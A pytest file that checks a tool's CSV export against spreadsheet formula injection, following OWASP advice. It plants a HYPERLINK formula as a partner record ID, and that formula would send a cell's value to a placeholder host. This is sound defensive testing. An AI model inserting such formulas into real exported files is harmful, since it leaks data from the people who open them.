"""`placewise export links` writes cells a spreadsheet shows as text, never runs (OWASP's advice on
CSV injection): a partner's record ID is whatever its file held."""

import csv

import pytest

from placewise.cli import main
from placewise.store import stores

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open")'


def test_a_record_id_that_reads_as_a_formula_is_exported_as_text(linked_place, tmp_path):
    with stores.enclave() as vault:
        (source, record_id), (_, plain) = vault.execute(
            "SELECT DISTINCT source, record_id FROM identities ORDER BY source, record_id LIMIT 2"
        ).fetchall()
        vault.execute(
            "UPDATE identities SET record_id = ? WHERE source = ? AND record_id = ?",
            [FORMULA, source, record_id],
        )
        vault.execute(
            "UPDATE identities SET record_id = '-12' WHERE source = ? AND record_id = ?",
            [source, plain],
        )
    out = tmp_path / "links.csv"
    assert main(["export", "links", "--out", str(out)]) == 0
    with out.open(newline="") as handle:
        ids = {r["source_record_id"] for r in csv.DictReader(handle) if r["source"] == source}
    assert "'" + FORMULA in ids and FORMULA not in ids
    assert "-12" in ids  # a number stays a number
    assert not any(i.startswith(("=", "+", "@")) for i in ids)
